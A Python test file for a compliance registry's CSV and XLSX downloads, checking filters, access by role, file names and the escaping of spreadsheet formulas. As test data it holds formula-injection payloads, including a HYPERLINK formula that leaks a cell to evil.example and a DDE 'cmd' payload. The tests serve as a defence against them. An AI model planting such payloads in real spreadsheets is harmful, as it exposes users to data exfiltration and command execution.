"""The systems list as CSV and XLSX, as filtered, with formula injection neutralised."""

from __future__ import annotations

import csv
import io

import openpyxl

from registry.records import reads, writes
from registry.sheets.exporting import neutral
from tests.conftest import csrf_token
from tests.records.samples import SAMPLES


def test_neutral_prefixes_what_would_run_as_a_formula():
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutral(text) == "'" + text
    assert neutral("plain") == "plain" and neutral(-3) == -3 and neutral(None) == ""


def test_the_systems_list_downloads_filtered_with_formulas_neutralised(
    client, login_as, session, officer
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for reference, name, tier in (
        ("s-1", hostile, "high"),
        ("s-2", "@cmd|' /C calc'!A0", "minimal"),
    ):
        writes.create_system(
            session,
            officer,
            {**SAMPLES["profile"], "reference": reference, "name": name, "risk_tier": tier}
            | {"annex_iii_area": None},
        )
    session.commit()
    login_as("auditor")
    page = client.get("/systems?tier=high").get_data(as_text=True)
    assert "format=csv" in page and "format=xlsx" in page
    response = client.get("/systems?tier=high&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0][:2] == ["Reference", "Name"]
    assert [r[:2] for r in rows[1:]] == [["s-1", "'" + hostile]]  # the filter holds

    response = client.get("/systems?format=xlsx&sort=reference")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    cells = [[c.value for c in row[:2]] for row in sheet.iter_rows(min_row=2)]
    assert cells == [["s-1", "'" + hostile], ["s-2", "'@cmd|' /C calc'!A0"]]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_audit_trail_downloads_with_its_filters(client, login_as, session, officer):
    for reference in ("a-1", "a-2"):
        system, _ = writes.create_system(
            session,
            officer,
            {**SAMPLES["profile"], "reference": reference, "name": "=2+2"},
        )
        writes.create_entry(session, officer, system, "risk", SAMPLES["risk"])
    session.commit()
    login_as("auditor")
    assert "format=csv" in client.get("/audit?system=a-1").get_data(as_text=True)
    response = client.get("/audit?system=a-1&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0][:3] == ["Seq", "Recorded at (UTC)", "Action"]
    assert {r[3] for r in rows[1:]} == {"a-1"} and len(rows) == 3  # profile, risk
    response = client.get("/audit?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    systems = [row[3].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(s for s in systems if s) == ["a-1", "a-1", "a-2", "a-2"]
    assert client.get("/audit?system=nope&format=csv").status_code == 404


def test_a_systems_entries_of_one_kind_download_with_formulas_neutralised(
    client, login_as, session, officer
):
    system, _ = writes.create_system(session, officer, {**SAMPLES["profile"], "reference": "k-1"})
    for title in ("=1+1", "Plain risk"):
        writes.create_entry(session, officer, system, "risk", {**SAMPLES["risk"], "title": title})
    writes.create_entry(session, officer, system, "incident", SAMPLES["incident"])
    session.commit()
    login_as("auditor")
    page = client.get("/systems/k-1?kind=risk").get_data(as_text=True)
    assert "kind=risk&amp;format=csv" in page and "kind=risk&amp;format=xlsx" in page
    response = client.get("/systems/k-1?kind=risk&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="k-1-risk.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    header = rows[0]
    assert header[:4] == ["System", "Entry", "Name", "Version"] and "Likelihood" in header
    assert len(rows) == 3  # the two risks, not the incident nor the profile
    titles = [r[header.index("Title")] for r in rows[1:]]
    assert titles == ["'=1+1", "Plain risk"]
    assert {r[header.index("Likelihood")] for r in rows[1:]} == {"possible"}

    response = client.get("/systems/k-1?kind=risk&format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    assert sheet.title == "Risk"
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [v[header.index("Title")] for v in values] == ["'=1+1", "Plain risk"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    # A download needs a kind: a clear refusal, not a 500.
    assert client.get("/systems/k-1?format=csv").status_code == 422
    assert client.get("/systems/k-1?kind=nope&format=csv").status_code == 404


def test_the_organisations_statement_of_applicability_downloads(client, login_as, session, officer):
    system, _ = writes.create_system(
        session, officer, {**SAMPLES["profile"], "reference": "soa-1", "role": "provider"}
    )
    writes.create_entry(
        session,
        officer,
        system,
        "applicability",
        {**SAMPLES["applicability"], "justification": "@SUM(1)"},
    )
    session.commit()
    login_as("auditor")
    page = client.get("/frameworks/iso-42001/statement-of-applicability").get_data(as_text=True)
    assert "format=csv" in page and "format=xlsx" in page
    response = client.get("/frameworks/iso-42001/statement-of-applicability?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0] == [
        "Control",
        "Title",
        "Applies",
        "Status",
        "System",
        "Applies to the system",
        "Status for the system",
        "Justification",
        "Implemented by",
    ]
    assert len(rows) == 1 + 38  # one row per Annex A control and system in scope
    excluded = next(r for r in rows if r[0] == "A.10.4")
    assert excluded[2:8] == ["no", "not_applicable", "soa-1", "no", "not_applicable", "'@SUM(1)"]
    assert any(r[8] for r in rows[1:])  # some control is implemented by entry versions

    response = client.get("/frameworks/iso-42001/statement-of-applicability?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    cells = {row[0].value: [c.value for c in row] for row in sheet.iter_rows(min_row=2)}
    assert len(cells) == 38 and cells["A.10.4"][7] == "'@SUM(1)"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    bad = client.get("/frameworks/iso-42001/statement-of-applicability?on=2020-13-01&format=csv")
    assert bad.status_code == 422 and bad.mimetype == "text/html"


def test_the_downloads_answer_as_the_pages_they_come_from(client, login_as, session, officer):
    writes.create_system(session, officer, {**SAMPLES["profile"], "reference": "p-1"})
    writes.create_entry(session, officer, reads.get_system(session, "p-1"), "risk", SAMPLES["risk"])
    session.commit()
    paths = (
        "/systems/p-1?kind=risk&format=csv",
        "/systems/p-1?kind=risk&format=xlsx",
        "/frameworks/iso-42001/statement-of-applicability?format=csv",
        "/frameworks/iso-42001/statement-of-applicability?format=xlsx",
    )
    for path in paths:  # nobody signed in: to the sign-in page
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"]
    expected = {"admin": 403, "compliance_officer": 200, "technical_owner": 200, "auditor": 200}
    for role, status in expected.items():
        login_as(role)
        for path in paths:
            page = path.split("&format")[0].split("?format")[0]
            assert client.get(page).status_code == status, (role, page)
            response = client.get(path)
            assert response.status_code == status, (role, path)
            assert status != 200 or response.mimetype != "text/html", (role, path)
        client.post("/logout", data={"csrf_token": csrf_token(client, "/frameworks")})


def test_the_five_downloads_are_files_named_for_what_they_hold(client, login_as, session, officer):
    writes.create_system(session, officer, {**SAMPLES["profile"], "reference": "n-1"})
    writes.create_entry(session, officer, reads.get_system(session, "n-1"), "risk", SAMPLES["risk"])
    session.commit()
    login_as("compliance_officer")
    names = {
        "/systems?format={}": "systems",
        "/systems/n-1?kind=risk&format={}": "n-1-risk",
        "/systems/n-1/frameworks?format={}": "coverage-n-1",
        "/audit?format={}": "audit-trail",
        "/frameworks/iso-42001/statement-of-applicability?format={}": (
            "iso-42001-statement-of-applicability"
        ),
    }
    types = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument"}
    for path, name in names.items():
        for fmt, mimetype in types.items():
            response = client.get(path.format(fmt))
            assert response.status_code == 200, path
            assert response.mimetype.startswith(mimetype), path
            disposition = response.headers["Content-Disposition"]
            assert disposition == f'attachment; filename="{name}.{fmt}"', path
            if fmt == "csv":
                assert response.get_data().startswith("\ufeff".encode())
            else:
                openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
